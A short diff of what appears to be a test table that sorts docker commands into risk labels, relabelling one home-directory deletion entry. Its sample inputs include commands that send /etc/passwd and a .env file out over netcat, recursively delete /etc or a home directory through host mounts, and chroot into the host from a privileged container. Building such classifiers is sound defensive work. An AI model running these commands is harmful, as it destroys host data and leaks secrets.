@@ -47,7 +47,8 @@ GROUPS: list[Group] = [
      "docker exec -u root web sh -c 'nc h 1 < /etc/passwd' < .env")),
     ("privilege container host mount, delete /etc recursive", "docker: changes the machine", (
      "docker run --rm -v /:/mnt alpine rm -rf /mnt/etc",)),
-    ("delete /home/ann recursive", "docker: deletes", ("docker run -v $HOME:/h alpine rm -rf /h",)),
+    ("privilege container host mount, delete /home/ann recursive", "docker: deletes", (
+     "docker run -v $HOME:/h alpine rm -rf /h",)),
     ("privilege container host namespace, privilege container host mount", "docker: changes the machine", (
      "docker run -it --rm --net=host --pid=host --ipc=host --volume /:/host busybox chroot /host",)),
     ("", "docker: only looks, or works here", ("docker compose up -d", "docker compose up --build -d",
